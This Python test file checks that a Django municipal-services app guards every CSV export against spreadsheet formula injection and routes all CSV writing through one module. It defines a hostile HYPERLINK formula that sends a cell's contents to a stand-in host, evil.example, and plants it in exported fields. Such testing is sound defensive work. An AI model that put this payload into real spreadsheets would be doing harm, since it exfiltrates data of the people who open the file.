"""Every CSV file IDX writes neutralises spreadsheet formulas, and no code writes CSV around the
one writer (``idx.common.spreadsheet``)."""

from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.utils import timezone

import idx
from idx.applications import services as application_services
from idx.assist.services.faqs import FaqData, faq_save
from idx.audit.services import audit_record
from idx.common.spreadsheet import csv_chunks, csv_text, formula_guard, formula_unguard
from idx.payments import reconciliation
from idx.payments.finance_export import finance_csv_chunks
from idx.payments.models import Payment, ProviderConfig
from tests.conftest import example_answers, make_draft, make_submitted, procedure, reauthenticated, signed_in

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
NEUTRALISED = "'" + HOSTILE
SOURCE = Path(idx.__file__).parent
WRITER = SOURCE / "common" / "spreadsheet.py"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


def _body(response) -> str:
    assert response.status_code == 200, response.content[:300] if not response.streaming else ""
    return b"".join(response.streaming_content).decode("utf-8")


def _assert_neutralised(text: str) -> None:
    cells = _cells(text)
    assert NEUTRALISED in cells, cells[:40]
    assert HOSTILE not in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]


def test_case_export_page_and_api(resident, clerk, supervisor):
    answers = example_answers(procedure(resident.municipality))
    answers["remarks"] = HOSTILE
    case = make_submitted(resident, answers=answers)
    case = application_services.case_start_review(
        application=case, staff=clerk, expected_version=case.row_version
    )
    application_services.case_decide(
        application=case, staff=clerk, approve=True, reason="", expected_version=case.row_version
    )
    client = reauthenticated(signed_in(supervisor))
    for values in ("codes", "labels"):
        page = client.get(
            "/staff/exports/",
            {"procedure": "child-allowance-certification", "format": "csv", "values": values},
        )
        _assert_neutralised(_body(page))
    api = client.get("/api/v1/staff/exports/child-allowance-certification", {"format": "csv"})
    _assert_neutralised(_body(api))


def test_audit_export(iga, city_admin):
    audit_record(municipality=iga, actor=city_admin, action="faq.save", target_type="faq", target_id=HOSTILE)
    today = timezone.localdate()
    client = reauthenticated(signed_in(city_admin))
    response = client.get("/staff/audit/", {"date_from": today.isoformat(), "date_to": today.isoformat()})
    _assert_neutralised(_body(response))


def test_faq_export(iga, city_admin):
    faq_save(
        municipality=iga,
        actor=city_admin,
        data=FaqData(
            key="sodai-gomi-hi",
            category="garbage",
            department_code="",
            procedures=[],
            texts={"ja": (HOSTILE, "収集日の前日までにお申し込みください。")},
        ),
    )
    client = signed_in(city_admin)
    response = client.get("/staff/faqs/export.csv")
    _assert_neutralised(_body(response))


def test_finance_export(monkeypatch, iga, resident, city_admin):
    from idx.payments import services as payment_services
    from tests.payments.conftest import FakeProvider

    ProviderConfig.objects.update_or_create(municipality=iga, provider="fake", defaults={"config": {}})
    monkeypatch.setattr(payment_services, "provider_for", lambda config, registry=None: FakeProvider(config))
    draft = make_draft(resident, "residence-certificate-request")
    payment = payment_services.payment_start(
        application=draft, actor=resident, provider="fake", base_url="http://testserver/"
    )
    paid_at = timezone.now() - dt.timedelta(days=1)
    Payment.objects.filter(pk=payment.pk).update(purpose=HOSTILE, paid_at=paid_at, paid_amount=payment.amount)
    day = paid_at.astimezone(reconciliation.TOKYO).date()
    _assert_neutralised("".join(finance_csv_chunks(municipality=iga, day=day)))
    client = reauthenticated(signed_in(city_admin))
    response = client.get("/staff/payments/finance-export/", {"day": day.isoformat()})
    _assert_neutralised(_body(response))


def test_demo_settlement_file(iga):
    from idx.demo_pay.models import CheckoutStatus, DemoCheckout
    from idx.demo_pay.services import configure_for_municipality, settlement_csv

    merchant = configure_for_municipality(iga)
    assert merchant is not None
    now = timezone.now()
    DemoCheckout.objects.create(
        merchant=merchant,
        amount=300,
        reference=HOSTILE,
        status=CheckoutStatus.PAID,
        paid_at=now,
        expires_at=now + dt.timedelta(hours=1),
    )
    _assert_neutralised(settlement_csv(merchant=merchant, day=timezone.localdate(now)))


@pytest.mark.parametrize(
    "value", [HOSTILE, "+81 595 22 9611", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@x", "-42", "伊賀"]
)
def test_the_writer_guards_and_the_guard_is_reversible(value):
    (cell,) = _cells(csv_text([[value]]))
    assert cell[:1] not in ("=", "+", "@", "\t", "\r") or cell == value == "-42"
    assert formula_unguard(cell) == value
    assert formula_guard(value) == cell


def test_streaming_writer_batches_without_holding_the_rows():
    def rows():
        for number in range(1000):
            yield [number, HOSTILE]

    pieces = list(csv_chunks(rows(), batch=200))
    assert pieces[0] == "\ufeff"
    assert len(pieces) == 6  # the BOM, then five pieces of 200 lines
    assert _cells("".join(pieces)).count(NEUTRALISED) == 1000


def _csv_writers(path: Path) -> list[int]:
    """Lines of ``path`` that make a CSV writer (``csv.writer``, ``csv.DictWriter``, imported or not)."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        attribute = (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        )
        imported = (
            isinstance(node, ast.ImportFrom)
            and node.module == "csv"
            and bool({alias.name for alias in node.names} & {"writer", "DictWriter"})
        )
        if attribute or imported:
            found.append(node.lineno)
    return found


def test_no_csv_is_written_around_the_one_writer():
    offenders = {
        str(path.relative_to(SOURCE)): lines
        for path in SOURCE.rglob("*.py")
        if path != WRITER and (lines := _csv_writers(path))
    }
    assert offenders == {}, (
        "write CSV with idx.common.spreadsheet (csv_chunks / csv_text), which guards every cell"
    )
    assert _csv_writers(WRITER)  # the check itself finds a writer where there is one
